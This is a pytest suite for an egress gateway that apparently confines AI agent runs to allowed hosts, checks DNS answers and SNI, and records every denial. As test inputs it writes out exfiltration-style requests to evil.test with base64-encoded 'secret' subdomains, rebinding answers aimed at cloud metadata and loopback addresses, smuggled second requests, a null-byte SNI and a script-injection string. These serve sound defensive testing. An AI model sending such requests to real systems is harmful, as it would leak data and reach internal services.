"""The gateway process with real nameserver, servers and clients in a namespace of their own (E1, E3, E4)."""

from __future__ import annotations

import json
import os
import signal
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from alerts_receiver import until
from egress_client import ask, client_context, connect, dial, drain, get, hello, over_tls, reason, tunnel
from egress_net import PUBLIC, PUBLIC6, Forwarder, World
from lockgate.contract.errors import HostFault
from lockgate.egress.client import Control, Opened

POLICY = """[egress]
allow = [
  "api.allowed.example:443", "api.allowed.example:8443", "*.wild.example:443", "plain.example:80", "gone.example:443",
]
private = [{ host = "git.corp.example:443", addresses = ["10.0.0.5"] }]
[egress.limits]
connections = 1500
bytes_out = 400000
names_per_wildcard = 3
"""
ANSWERS = {
    "api.allowed.example": [PUBLIC],
    "plain.example": [PUBLIC],
    "git.corp.example": ["10.0.0.5"],
    "a.wild.example": [PUBLIC],
}
WAIT = 30.0


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with World(tmp_path_factory.mktemp("world"), POLICY, ANSWERS) as made:
        yield made


class Run:
    """One run at the world's gateway."""

    def __init__(self, world: World, name: str, **more: Any) -> None:
        self.world = world
        self.control = Control(world.control)
        self.name = name
        self.opened: Opened = self.control.open(user="u1", agent="atlas", run=name, tool="test", **more)

    def ask(self, raw: bytes) -> bytes:
        return ask(self.world.data, self.opened.token, raw)

    def tunnel(self, host: str, port: int = 443) -> socket.socket:
        return tunnel(self.world.data, self.opened.token, host, port)

    def rows(self, **wanted: Any) -> list[Any]:
        found = [row for row in self.world.rows() if row.run == self.name]
        return [row for row in found if all(getattr(row, key) == value for key, value in wanted.items())]


@pytest.fixture
def run(world: World) -> Iterator[Run]:
    made = Run(world, f"run-{os.urandom(6).hex()}")
    yield made
    made.control.close()


def test_clients_reach_what_is_allowed(world: World, run: Run) -> None:
    """E1: curl over both forms, several requests on one connection, chunked and unbounded answers, a private entry."""
    with Forwarder(world.data, run.opened.token) as proxy:

        def curl(*args: str) -> subprocess.CompletedProcess[bytes]:
            return subprocess.run(
                ["curl", "-sS", "--max-time", "60", "--cacert", str(world.ca), "-x", proxy.url, *args],
                capture_output=True, timeout=90, check=False, env={},
            )  # fmt: skip

        for url in ("https://api.allowed.example/x", "http://plain.example/x", "https://git.corp.example/x"):
            done = curl(url)
            assert done.returncode == 0, done.stderr
            assert json.loads(done.stdout)["path"] == "/x"
        done = curl(*[f"http://plain.example/{path}" for path in ("chunked", "x", "until-close", "x", "big/300000")])
        assert done.returncode == 0, done.stderr
        assert done.stdout.endswith(b"x" * 300_000)
        done = curl("-d", "a" * 5000, "http://plain.example/p")
        told = json.loads(done.stdout)
        assert told["body"] == 5000
        assert set(told["fields"]) <= {"host", "user-agent", "accept", "content-type", "content-length", "connection"}
        done = curl("-i", "https://evil.test/")
        assert done.returncode == 56
        assert b"x-lockgate-reason: not_allowed" in done.stdout
    assert [row.reason for row in run.rows(verdict="deny")] == ["not_allowed"]

    def closed() -> list[Any]:
        return [row for row in run.rows(status="closed") if row.detail["destination"] == "api.allowed.example:443"]

    assert until(closed, "the row of the tunnel's end")[0].detail["bytes_in"] > 500


def test_python_and_node_speak_through_it(world: World, run: Run) -> None:
    """E1: http.client's CONNECT (HTTP/1.0 before Python 3.12) and Node's own sockets."""
    with Forwarder(world.data, run.opened.token) as proxy:
        program = (
            "import http.client, ssl, sys\n"
            "c = http.client.HTTPSConnection('127.0.0.1', int(sys.argv[1]), context=ssl.create_default_context(cafile=sys.argv[2]), timeout=60)\n"  # noqa: E501
            "c.set_tunnel('api.allowed.example', 443)\n"
            "c.request('GET', '/python')\n"
            "print(c.getresponse().read().decode())\n"
        )
        done = subprocess.run(
            [sys.executable, "-I", "-c", program, str(proxy.port), str(world.ca)],
            capture_output=True, timeout=90, check=True, env={},
        )  # fmt: skip
        assert json.loads(done.stdout)["path"] == "/python"
        node = subprocess.run(["which", "node"], capture_output=True, check=False, text=True).stdout.strip()
        if node:
            program = (
                "const http=require('http'),https=require('https'),fs=require('fs');"
                "http.request({port:+process.argv[1],method:'CONNECT',path:'api.allowed.example:443',"
                "headers:{host:'api.allowed.example:443'}}).on('connect',(r,s)=>{"
                "https.get({host:'api.allowed.example',path:'/node',ca:fs.readFileSync(process.argv[2]),socket:s,"
                "agent:false},r=>r.pipe(process.stdout))}).end()"
            )
            done = subprocess.run(
                [node, "-e", program, str(proxy.port), str(world.ca)],
                capture_output=True, timeout=90, check=True, env={},
            )  # fmt: skip
            assert json.loads(done.stdout)["path"] == "/node"


def test_the_row_is_there_before_the_answer(run: Run) -> None:
    """E4: whoever has read the answer finds the row, with who, what and why."""
    for raw, expected, kind, destination in (
        (connect("evil.test"), "not_allowed", "connect", "evil.test:443"),
        (get("http://evil.test/secret-path?q=data", host="evil.test"), "not_allowed", "connect", "evil.test:80"),
        (b"CONNECT api.allowed.example:+443 HTTP/1.1\r\n\r\n", "bad_port", "http", None),
        (get("http://plain.example/", "X-Unix-Socket: /x"), "forbidden_header", "http", None),
        (connect("127.0.0.1", 8080), "ip_literal_or_ambiguous", "connect", "127.0.0.1:8080"),
    ):
        before = len(run.rows())
        assert reason(run.ask(raw)) == expected
        rows = run.rows()[before:]
        assert len(rows) == 1, raw
        row = rows[0]
        assert (row.phase, row.verdict, row.status, row.reason) == ("egress", "deny", "denied", expected)
        assert (row.user, row.agent, row.detail["tool"]) == ("u1", "atlas", "test")
        assert row.detail["kind"] == kind
        assert row.detail.get("destination") == destination
        assert row.detail["peer"] == f"{os.getpid()}/{os.geteuid()}" or os.geteuid() != 0
        assert len(row.detail["policy"]) == 64
        assert "data" not in json.dumps(row.detail)
        if destination is None:
            assert raw[:40].hex() in row.detail["raw"]


def test_no_name_is_asked_for_what_is_denied(world: World, run: Run) -> None:
    """E3: the decision comes before any packet; only allowed names reach the nameserver, and they are absolute."""
    before = world.questions()
    for raw in (
        connect("c2VjcmV0.evil.test"), connect("c2VjcmV0.api.allowed.example"), connect("a.b.wild.example"),
        connect("api.allowed.example", 22), get("http://c2VjcmV0.evil.test/", host="c2VjcmV0.evil.test"),
        connect("api.allowed.example")[:-2] + b"X-Forwarded-Host: evil.test\r\n\r\n",
    ):  # fmt: skip
        assert reason(run.ask(raw)) not in {"ok", ""}
    assert world.questions() == before
    run.tunnel("API.allowed.example").close()
    asked = world.questions()[len(before) :]
    assert asked == [("api.allowed.example.", "A", "udp"), ("api.allowed.example.", "AAAA", "udp")] or sorted(
        kind for _, kind, _ in asked
    ) == ["A", "AAAA"]
    assert {name for name, _, _ in asked} == {"api.allowed.example."}


def test_rebinding_and_mixed_answers_reach_nobody(world: World, run: Run) -> None:
    """E2: each connection resolves once and dials what was vetted; a later bad answer is refused as one."""
    assert world.ask(op="probe", address="127.0.0.1", port=443), "the server that must not be reached is down"
    assert world.ask(op="probe", address="169.254.169.254", port=443)
    world.answers("gone.example", [PUBLIC], ["169.254.169.254"])
    run.tunnel("gone.example").close()
    assert reason(run.ask(connect("gone.example"))) == "resolved_non_public"
    row = run.rows(verdict="deny")[-1]
    assert row.detail["severity"] == "critical"
    for answer in (
        [PUBLIC, "10.0.0.5"], ["127.0.0.1"], ["0.0.0.0"], ["::1"], ["::ffff:127.0.0.1"], ["64:ff9b::7f00:1"],
        ["2002:7f00:1::"], ["169.254.169.254", PUBLIC], ["fe80::1"], ["224.0.0.1"], ["100.100.100.200"],
    ):  # fmt: skip
        world.answers("gone.example", answer)
        assert reason(run.ask(connect("gone.example"))) == "resolved_non_public", answer
        world.answers("plain.example", answer)
        assert reason(run.ask(get("http://plain.example/"))) == "resolved_non_public", answer
    world.answers("plain.example", [PUBLIC])
    for place in ("loopback-tls", "metadata", "metadata-tls", "loopback"):
        assert world.got(place)["requests"] == 0, place
    world.answers("git.corp.example", ["10.0.0.6"])
    assert reason(run.ask(connect("git.corp.example"))) == "resolved_non_public"
    world.answers("git.corp.example", ["10.0.0.5"])


def test_aliases_truncation_and_failure(world: World, run: Run) -> None:
    """E2: CNAMEs inside the answer, TCP when truncated, and no address means no connection."""
    world.answers("target.example", [PUBLIC])
    world.alias("gone.example", "target.example")
    run.tunnel("gone.example").close()
    world.answers("target.example", ["10.0.0.5"])
    assert reason(run.ask(connect("gone.example"))) == "resolved_non_public"
    world.alias("target.example", "gone.example")
    assert reason(run.ask(connect("gone.example"))) == "resolve_failed"
    world.ask(op="set", what="aliases", to={})
    world.answers("gone.example", [PUBLIC])
    world.ask(op="set", what="big", to=True)
    before = len(world.questions())
    run.tunnel("gone.example").close()
    assert {how for _, _, how in world.questions()[before:]} == {"udp", "tcp"}
    world.ask(op="set", what="big", to=False)
    world.ask(op="set", what="fail", to=["gone.example"])
    assert reason(run.ask(connect("gone.example"))) == "resolve_failed"
    world.ask(op="set", what="fail", to=[])
    assert reason(run.ask(connect("b.wild.example"))) == "resolve_failed"  # NXDOMAIN
    world.answers("gone.example", [])
    assert reason(run.ask(connect("gone.example"))) == "resolve_failed"
    world.answers("gone.example", ["93.184.216.40"])
    assert reason(run.ask(connect("gone.example"))) == "dial_failed"


def test_ipv6_is_dialled_as_it_was_vetted(world: World, run: Run) -> None:
    """E2: a destination that has IPv6 alone; nobody listens there, which is told as such."""
    world.answers("gone.example", [PUBLIC6])
    assert reason(run.ask(connect("gone.example"))) == "dial_failed"


def test_the_hello_must_name_the_destination(world: World, run: Run) -> None:
    """E2: a real handshake with another name, none, or no TLS at all gets alert 49, and nothing goes upstream."""
    got = world.got("echo")["bytes"]
    for raw, expected in (
        (hello("evil.test"), "sni_mismatch"),
        (hello("a.wild.example"), "sni_mismatch"),
        (b"GET / HTTP/1.1\r\n\r\n", "not_tls"),
        (b"SSH-2.0-x\r\n", "not_tls"),
        (hello("api.allowed.example\0.evil.test"), "bad_sni"),
    ):
        with run.tunnel("api.allowed.example", 8443) as sock:
            sock.sendall(raw)
            assert drain(sock) == b"\x15\x03\x03\x00\x02\x02\x31", expected
        assert run.rows()[-1].reason == expected or run.rows(reason=expected)
    context = client_context(str(world.ca))
    with pytest.raises(ssl.SSLError) as caught:
        over_tls(run.tunnel("api.allowed.example"), context, "evil.test", b"x")
    assert "ACCESS_DENIED" in str(caught.value).upper().replace(" ", "_")
    assert world.got("echo")["bytes"] == got, "bytes of a refused hello went upstream"
    answer = over_tls(
        run.tunnel("api.allowed.example"), context, "api.allowed.example",
        b"GET /good HTTP/1.1\r\nHost: api.allowed.example\r\nConnection: close\r\n\r\n",
    )  # fmt: skip
    assert b'"/good"' in answer
    assert run.rows(reason="sni_mismatch")[0].detail["kind"] == "sni"


def test_smuggled_bytes_are_read_by_nobody(world: World, run: Run) -> None:
    """E1: an optimistic second request behind a refusal, byte by byte, has no effect and no row."""
    raw = connect("evil.test") + get("http://plain.example/smuggled")
    with dial(world.data, run.opened.token) as sock:
        for at in range(len(raw)):
            try:
                sock.sendall(raw[at : at + 1])
            except OSError:
                break
        assert reason(drain(sock)) == "not_allowed"
    assert not any("/smuggled" in head for head in world.ask(op="seen", place="http"))
    assert len(run.rows()) == 1
    raw = (
        get("http://plain.example/first", "Content-Length: 2", method="POST")
        + b"hi"
        + get("http://evil.test/second", host="evil.test")
    )
    answer = run.ask(raw)
    assert b'"/first"' in answer
    assert b"x-lockgate-reason: not_allowed" in answer
    assert [row.verdict for row in run.rows()[1:]] == ["allow", "deny"]


def test_an_answer_cannot_pretend_to_be_ours(run: Run) -> None:
    """E1: fields of ours from outside are dropped; a response with two lengths is none."""
    answer = run.ask(get("http://plain.example/forged", "Connection: close"))
    assert b"x-lockgate-reason" not in answer
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert reason(run.ask(get("http://plain.example/confused", "Connection: close"))) == "dial_failed"


def test_only_a_run_may_speak(world: World, run: Run) -> None:
    """E1: a wrong token, no token, a token of a run that ended, a descriptor that is no TCP socket."""
    assert reason(ask(world.data, "x" * 43, connect("api.allowed.example"))) == "caller_unauthenticated"
    assert world.rows()[-1].reason == "caller_unauthenticated"
    other = Run(world, "ended")
    held = other.tunnel("api.allowed.example", 8443)
    held.sendall(hello("api.allowed.example"))
    assert held.recv(16).startswith(b"\x16")
    other.control.close()
    assert drain(held) is not None, "the tunnel outlived its run"
    held.close()
    assert reason(ask(world.data, other.opened.token, connect("api.allowed.example"))) == "caller_unauthenticated"
    from lockgate.egress.preface import preface

    with socket.socket(socket.AF_UNIX) as sock:
        sock.settimeout(WAIT)
        sock.connect(world.data)
        sock.sendall(b"GET / HTTP/1.1\r\nHost: x.example\r\nX: 0123456789\r\n\r\n")
        assert reason(drain(sock)) in {"caller_unauthenticated", ""}
    with socket.socket(socket.AF_UNIX) as sock, open("/dev/null", "rb") as other_file:
        sock.settimeout(WAIT)
        sock.connect(world.data)
        socket.send_fds(sock, [preface(run.opened.token)], [other_file.fileno()])
        assert drain(sock) == b""
    run.tunnel("api.allowed.example").close()


def test_budgets_are_the_runs(run: Run) -> None:
    """E1: names under a wildcard, and bytes through a tunnel: what exceeds them does not arrive."""
    with run.tunnel("api.allowed.example", 8443) as sock:
        sock.sendall(hello("api.allowed.example"))
        answered = threading.Event()
        got = bytearray()

        def read() -> None:
            try:
                while data := sock.recv(65536):
                    got.extend(data)
            except OSError:
                pass
            answered.set()

        reader = threading.Thread(target=read)
        reader.start()
        try:
            for _ in range(200):
                sock.sendall(b"x" * 10_000)
        except OSError:
            pass
        assert answered.wait(WAIT)
        reader.join(WAIT)
        assert len(got) <= 400_000
    over = until(lambda: run.rows(reason="byte_budget"), "the row of the budget")
    assert over[0].detail["kind"] == "budget"
    for label in ("a", "a", "b", "c"):
        with dial(run.world.data, run.opened.token) as sock:
            sock.sendall(connect(f"{label}.wild.example"))
            assert sock.recv(4096)
    assert reason(run.ask(connect("d.wild.example"))) == "label_budget"
    assert reason(run.ask(connect("evil.test"))) == "not_allowed"


def test_hundreds_of_tunnels_at_once(world: World, run: Run) -> None:
    """E1: all are held, all carry bytes, and the gateway has its descriptors back afterwards."""
    before = len(os.listdir(f"/proc/{world.pid}/fd")) if os.geteuid() == 0 else 0
    held = []
    for number in range(400):
        sock = run.tunnel("api.allowed.example", 8443)
        sock.sendall(hello("api.allowed.example") + b"%04d" % number)
        held.append(sock)
    for number, sock in enumerate(held):
        got = b""
        while not got.endswith(b"%04d" % number):
            part = sock.recv(4096)
            assert part
            got += part
    for sock in held:
        sock.close()
    if before:
        deadline = time.monotonic() + WAIT
        while len(os.listdir(f"/proc/{world.pid}/fd")) > before + 40 and time.monotonic() < deadline:
            time.sleep(0.05)
        assert len(os.listdir(f"/proc/{world.pid}/fd")) <= before + 40


def test_rows_of_what_is_refused_outside(run: Run) -> None:
    """E3, E4: a launcher's denials are durable before they are acknowledged, and hold no free text."""
    audit_id = run.control.denied(
        kind="dns", reason="not_allowed", destination="c2VjcmV0.evil.test", raw=b"\0\1question", qtype="A"
    )
    row = run.rows()[-1]
    assert row.id == audit_id
    assert row.detail["qtype"] == "A"
    assert row.detail["destination"] == "c2vjcmv0.evil.test"
    run.control.denied(kind="packet", reason="no_route", destination="<script>alert(1)</script>")
    assert "destination" not in run.rows()[-1].detail
    with pytest.raises(HostFault):
        run.control.denied(kind="dns", reason="no such reason")


def test_report_mode_lets_through_and_says_so(tmp_path: Path) -> None:
    """E1: what the list alone would deny passes and is recorded; what it leads to is vetted all the same."""
    answers = {"evil.test": [PUBLIC], "inside.test": ["127.0.0.1"]}
    with World(tmp_path, '[egress]\nmode = "report"\nallow = []\n', answers) as world:
        run = Run(world, "report")
        answer = over_tls(
            run.tunnel("evil.test"), client_context(str(world.ca)), "evil.test",
            b"GET /x HTTP/1.1\r\nHost: evil.test\r\nConnection: close\r\n\r\n",
        )  # fmt: skip
        assert b'"/x"' in answer
        first = run.rows()[0]
        assert (first.verdict, first.reason, first.status) == ("allow", "not_allowed", "reported")
        assert reason(run.ask(connect("inside.test"))) == "resolved_non_public"
        assert reason(run.ask(connect("127.0.0.1"))) == "ip_literal_or_ambiguous"
        with run.tunnel("evil.test") as sock:
            sock.sendall(hello("other.test"))
            assert drain(sock) == b"\x15\x03\x03\x00\x02\x02\x31"
        run.control.close()


def test_without_rows_nothing_is_allowed_or_answered(tmp_path: Path) -> None:
    """E4: when the audit writer is gone, a denial has no answer and nothing is let through."""
    with World(tmp_path, POLICY, ANSWERS) as world:
        run = Run(world, "norows")
        assert reason(run.ask(connect("evil.test"))) == "not_allowed"
        os.kill(world.writer_pid, signal.SIGKILL)
        deadline = time.monotonic() + WAIT
        while reason(run.ask(connect("evil.test"))) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert run.ask(connect("evil.test")) == b""
        assert run.ask(connect("api.allowed.example")) == b""
        assert run.ask(get("http://plain.example/x")) == b""
        assert world.got("http")["requests"] == 0
        with pytest.raises(HostFault):
            run.control.denied(kind="dns", reason="not_allowed")
        run.control.close()


def test_the_process_holds_nothing_that_is_worth_taking(world: World) -> None:
    """C6, E1: no environment, no new privilege, a filter, no TCP port; the argv names its descriptors alone."""
    place = Path(f"/proc/{world.pid}")
    status = dict(line.split(":", 1) for line in (place / "status").read_text().splitlines() if ":" in line)
    assert status["NoNewPrivs"].strip() == "1"
    assert status["Seccomp"].strip() == "2"
    argv = (place / "cmdline").read_bytes().split(b"\0")
    assert b"lockgate.egress" in argv
    assert not any(b"token" in word.lower() for word in argv)
    # Readable for root, and for a plain user as the owner of the user namespace that the world has then.
    assert (place / "environ").read_bytes() == b""
    inodes = {os.readlink(fd) for fd in (place / "fd").iterdir() if os.path.lexists(fd)}
    for table in ("tcp", "tcp6"):
        for line in (place / "net" / table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":  # listening
                assert f"socket:[{fields[9]}]" not in inodes


def test_it_ends_with_its_launcher(tmp_path: Path) -> None:
    """E1: the launcher is killed; gateway and writer end by themselves, and the sockets are gone."""
    world = World(tmp_path, POLICY, ANSWERS)
    try:
        folder = Path(world.control).parent
        assert folder.stat().st_mode & 0o777 == 0o700
        assert (folder / "data").stat().st_mode & 0o777 == 0o600
        assert (folder / "control").stat().st_mode & 0o777 == 0o600
        world.process.kill()
        deadline = time.monotonic() + WAIT
        while (folder.exists() or _lives(world.pid) or _lives(world.writer_pid)) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not folder.exists()
        assert not _lives(world.pid)
        assert not _lives(world.writer_pid)
    finally:
        world.close()


def _lives(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
    except OSError:
        return False
